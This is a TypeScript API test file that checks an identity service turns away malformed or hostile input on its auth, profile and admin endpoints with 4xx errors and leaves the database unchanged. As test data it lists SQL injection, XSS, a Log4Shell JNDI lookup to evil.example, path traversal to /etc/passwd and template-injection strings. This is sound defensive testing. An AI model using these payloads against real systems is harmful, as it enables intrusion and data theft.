/**
 * Bad input over every identity endpoint: malformed JSON, wrong types, missing and unknown
 * fields, oversized bodies, wrong content types, Unicode edge cases and injection-looking
 * strings. Every answer must be a 4xx problem+json naming the problem, never a 5xx, and the
 * database must hold exactly the rows it held before (nothing half-written).
 */
import request from 'supertest';
import { badJsonBodyCases, FORGED_CURSORS, type BadRequestCase } from '@quizmesh/platform/testing';
import { registerResponseSchema } from '@quizmesh/contracts/identity-api';
import { rowCounts, startIdentity, uniqueEmail, type IdentityUnderTest, type RowCounts } from './harness';

const PASSWORD = 'correct horse battery staple';
const ADMIN_EMAIL = 'bad.input.admin@example.com';

type BadCase = BadRequestCase<'player' | 'admin'>;

const injection = [
  "' OR '1'='1' --",
  'ada@example.com\'; DROP TABLE "User"; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '{{7*7}}',
];
const unicode: Array<[string, string]> = [
  ['a NUL byte', 'ada\u0000@example.com'],
  ['a lone surrogate', 'ada\ud800@example.com'],
  ['a right-to-left override', 'ada\u202E@example.com'],
  ['an overlong string', `${'a'.repeat(5_000)}@example.com`],
  ['emoji', '😀😀@example.com'],
  ['combining characters', 'a\u0301\u0302\u0303\u0304@example.com'],
];
const wrongTypes: unknown[] = [42, true, null, ['a@example.com'], { $gt: '' }];

function jsonBodyCases(
  method: BadCase['method'],
  path: string,
  valid: Record<string, unknown>,
  as?: BadCase['as'],
): BadCase[] {
  const base = { method, path, ...(as ? { as } : {}) };
  return badJsonBodyCases(valid, { wrongTypes, unknownField: { isAdmin: true } }).map((c) => ({ ...base, ...c }));
}

/** `field` set to each [what, value] in turn: 400 naming `body.<field>`, named `<field> with <what>`. */
function fieldCases(
  method: BadCase['method'],
  path: string,
  valid: Record<string, unknown>,
  field: string,
  values: ReadonlyArray<readonly [string, string]>,
  as?: BadCase['as'],
): BadCase[] {
  return values.map(([what, value]) => ({
    method,
    path,
    ...(as ? { as } : {}),
    name: `${field} ${what}`,
    body: { ...valid, [field]: value },
    status: 400,
    field: `body.${field}`,
  }));
}

const withWhat = (values: Array<[string, string]>) => values.map(([what, value]) => [`with ${what}`, value] as const);

/** What a text field refuses: odd Unicode and injection-looking strings. */
const BAD_STRINGS = [...withWhat(unicode), ...injection.map((value) => [`= ${value}`, value] as const)];
const BAD_DISPLAY_NAMES = withWhat([
  ['a NUL byte', 'Ada\u0000'],
  ['a lone surrogate', 'Ada\udc00'],
  ['a right-to-left override', 'Ada\u202Enimda'],
  ['a first-strong isolate', '\u2068Ada'],
  ['zalgo marks', `A${'\u0300\u0301\u0302\u0303\u0304'}`],
  ['51 emoji', '🎉'.repeat(51)],
  ['an overlong string', 'A'.repeat(10_000)],
  ['only whitespace', ' \t\u3000 '],
  ['only zero-width characters', '\u200B\u200D'],
  ['an empty string', ''],
]);
const BAD_PASSWORDS = withWhat([
  ['9 characters', 'abcdefgh9'],
  ['129 characters', 'abc'.repeat(43)],
  ['a NUL byte', 'correct\u0000horse battery'],
  ['a lone surrogate', 'correct horse\ud800battery'],
  ['a common password', 'Password123'],
  ['one repeated character', 'zzzzzzzzzzzz'],
]);

const register = { email: 'new.player@example.com', displayName: 'New Player', password: PASSWORD };
const login = { email: 'someone@example.com', password: PASSWORD };
const token = { refreshToken: 'A'.repeat(43) };
const changePassword = { currentPassword: PASSWORD, newPassword: 'another fine secret' };

/** A POST of `body` that must get 400 naming `field`. */
const postWith = (name: string, path: string, body: unknown, field: string): BadCase => ({
  name,
  method: 'post',
  path,
  body,
  status: 400,
  field,
});

const CASES: BadCase[] = [
  // registration (also the seed path)
  ...jsonBodyCases('post', '/api/v1/auth/register', register),
  ...fieldCases('post', '/api/v1/auth/register', register, 'email', BAD_STRINGS),
  ...fieldCases('post', '/api/v1/auth/register', register, 'displayName', BAD_DISPLAY_NAMES),
  ...fieldCases('post', '/api/v1/auth/register', register, 'password', BAD_PASSWORDS),
  postWith(
    'password equal to the email',
    '/api/v1/auth/register',
    { ...register, password: 'new.player@example.com' },
    'body.password',
  ),
  ...jsonBodyCases('post', '/api/users/register', register),
  // login
  ...jsonBodyCases('post', '/api/v1/auth/login', login),
  ...fieldCases('post', '/api/v1/auth/login', login, 'email', BAD_STRINGS),
  postWith('an empty password', '/api/v1/auth/login', { ...login, password: '' }, 'body.password'),
  postWith(
    'a 5000-character password',
    '/api/v1/auth/login',
    { ...login, password: 'p'.repeat(5_000) },
    'body.password',
  ),
  ...jsonBodyCases('post', '/api/users/login', login),
  // refresh / logout
  ...jsonBodyCases('post', '/api/v1/auth/refresh', token),
  ...fieldCases('post', '/api/v1/auth/refresh', token, 'refreshToken', BAD_STRINGS),
  ...jsonBodyCases('post', '/api/v1/auth/logout', token),
  ...fieldCases('post', '/api/v1/auth/logout', token, 'refreshToken', BAD_STRINGS),
  {
    name: 'an unknown but well-formed refresh token',
    method: 'post',
    path: '/api/v1/auth/refresh',
    body: token,
    status: 401,
  },
  { name: 'logout-all without a user', method: 'post', path: '/api/v1/auth/logout-all', status: 401 },
  {
    name: 'logout-all with malformed JSON',
    method: 'post',
    path: '/api/v1/auth/logout-all',
    as: 'player',
    raw: { text: '{', contentType: 'application/json' },
    status: 400,
  },
  // own profile
  { name: 'profile without a user', method: 'get', path: '/api/v1/users/me', status: 401 },
  { name: 'seed profile without a user', method: 'get', path: '/api/users/profile', status: 401 },
  ...jsonBodyCases('patch', '/api/v1/users/me', { displayName: 'Renamed' }, 'player').filter(
    (c) => !c.name.startsWith('missing'),
  ),
  ...fieldCases('patch', '/api/v1/users/me', {}, 'displayName', BAD_DISPLAY_NAMES, 'player'),
  {
    name: 'an empty update',
    method: 'patch',
    path: '/api/v1/users/me',
    as: 'player',
    body: {},
    status: 400,
    field: 'body',
  },
  {
    name: 'an update of roles',
    method: 'patch',
    path: '/api/v1/users/me',
    as: 'player',
    body: { roles: ['admin'] },
    status: 400,
    field: 'roles',
  },
  {
    name: 'an update without a user',
    method: 'patch',
    path: '/api/v1/users/me',
    body: { displayName: 'X' },
    status: 401,
  },
  // password change
  ...jsonBodyCases('post', '/api/v1/users/me/password', changePassword, 'player'),
  ...fieldCases('post', '/api/v1/users/me/password', changePassword, 'newPassword', BAD_PASSWORDS, 'player'),
  {
    name: 'a wrong current password',
    method: 'post',
    path: '/api/v1/users/me/password',
    as: 'player',
    body: { ...changePassword, currentPassword: 'not my password' },
    status: 400,
    field: 'body.currentPassword',
  },
  {
    name: 'an unchanged password',
    method: 'post',
    path: '/api/v1/users/me/password',
    as: 'player',
    body: { currentPassword: PASSWORD, newPassword: PASSWORD },
    status: 400,
    field: 'body.newPassword',
  },
  // one user
  ...['not-a-uuid', "1' OR '1'='1", '..%2F..%2Fetc%2Fpasswd', '%00', '😀', '00000000-0000-0000-0000-00000000000g'].map(
    (id) => ({
      name: `user id ${id}`,
      method: 'get' as const,
      path: `/api/v1/users/${id}`,
      as: 'admin' as const,
      status: 400,
      field: 'params.id',
    }),
  ),
  // admin list
  ...(
    [
      ['limit=0', 'query.limit'],
      ['limit=101', 'query.limit'],
      ['limit=abc', 'query.limit'],
      ['limit=1.5', 'query.limit'],
      ['limit=1&limit=2', 'query.limit'],
      ['cursor=%27%20OR%201%3D1', 'query.cursor'],
      ['cursor=bm90LWEtY3Vyc29y', 'query.cursor'],
      ...FORGED_CURSORS.map((cursor) => [`cursor=${cursor}`, 'query.cursor']),
      ['sort=email', 'sort'],
    ] as Array<[string, string]>
  ).map(([query, field]) => ({
    name: `list with ${query}`,
    method: 'get' as const,
    path: `/api/v1/admin/users?${query}`,
    as: 'admin' as const,
    status: 400,
    field,
  })),
  // roles
  ...jsonBodyCases('put', '/api/v1/admin/users/{player}/roles', { roles: ['author'] }, 'admin'),
  ...(
    [
      ['an empty list', []],
      ['an unknown role', ['superuser']],
      ['a repeated role', ['author', 'author']],
      ['four roles', ['player', 'author', 'admin', 'player']],
      ['an injection-looking role', ["admin' --"]],
      ['a role with a NUL byte', ['admin\u0000']],
    ] as Array<[string, unknown]>
  ).map(([what, roles]) => ({
    name: `roles: ${what}`,
    method: 'put' as const,
    path: '/api/v1/admin/users/{player}/roles',
    as: 'admin' as const,
    body: { roles },
    status: 400,
    field: 'body.roles',
  })),
  {
    name: 'roles for a non-UUID user',
    method: 'put',
    path: '/api/v1/admin/users/42/roles',
    as: 'admin',
    body: { roles: ['author'] },
    status: 400,
    field: 'params.id',
  },
  {
    name: 'roles set by a player',
    method: 'put',
    path: '/api/v1/admin/users/{player}/roles',
    as: 'player',
    body: { roles: ['admin'] },
    status: 403,
  },
];

let identity: IdentityUnderTest;
let headers: Record<'player' | 'admin', Record<string, string>>;
let playerId: string;
let before: RowCounts;

beforeAll(async () => {
  identity = await startIdentity({ env: { IDENTITY_BOOTSTRAP_ADMIN_EMAIL: ADMIN_EMAIL } });
  const register = async (email: string) =>
    registerResponseSchema.parse(
      (
        await request(identity.url)
          .post('/api/v1/auth/register')
          .send({ email, displayName: 'Someone', password: PASSWORD })
      ).body,
    );
  const player = await register(uniqueEmail());
  const admin = await register(ADMIN_EMAIL);
  playerId = player.user.id;
  headers = {
    player: await identity.asGateway(player.tokens.accessToken),
    admin: await identity.asGateway(admin.tokens.accessToken),
  };
  before = await rowCounts(identity.prisma);
});

afterAll(async () => {
  await identity?.stop();
});

describe('bad input gets a 4xx problem naming the problem', () => {
  it.each(CASES.map((c) => [`${c.method.toUpperCase()} ${c.path}: ${c.name}`, c] as const))('%s', async (_title, c) => {
    const path = c.path.replace('{player}', playerId);
    let req = request(identity.url)[c.method](path);
    if (c.as) req = req.set(headers[c.as]);
    if (c.raw) req = req.set('content-type', c.raw.contentType).send(c.raw.text);
    else if (c.body !== undefined) req = req.set('content-type', 'application/json').send(JSON.stringify(c.body));
    const res = await req;

    expect(res.status).toBe(c.status);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body).toMatchObject({ status: c.status, title: expect.any(String), detail: expect.any(String) });
    if (c.field) {
      const named = [
        res.body.detail as string,
        ...((res.body.errors ?? []) as Array<{ field: string; message: string }>).map((e) => `${e.field} ${e.message}`),
      ];
      expect(named.some((text) => text.includes(c.field as string))).toBe(true);
    }
  });

  it('left every table exactly as it was, and the accounts unchanged', async () => {
    expect(await rowCounts(identity.prisma)).toEqual(before);
    const profile = await request(identity.url).get('/api/v1/users/me').set(headers.player);
    expect(profile.body).toMatchObject({ displayName: 'Someone', roles: ['player'] });
    expect(
      (await request(identity.url).post('/api/v1/auth/login').send({ email: profile.body.email, password: PASSWORD }))
        .status,
    ).toBe(200);
  });

  it('logged no failure of its own (no 5xx)', () => {
    const failures = identity.logLines.filter((line) => /"level":"(error|fatal)"/.test(line));
    expect(failures).toEqual([]);
  });
});

describe('injection-looking text where text is allowed', () => {
  it('stores a display name verbatim and returns it unchanged (parameterised queries, no interpretation)', async () => {
    for (const displayName of ['Robert\'); DROP TABLE "User";--', '<img src=x onerror=alert(1)>', '{{7*7}} ${7*7}']) {
      const res = await request(identity.url).patch('/api/v1/users/me').set(headers.player).send({ displayName });
      expect(res.status).toBe(200);
      expect(res.body.displayName).toBe(displayName);
    }
    expect(await identity.prisma.user.count()).toBe(before.users);
  });
});
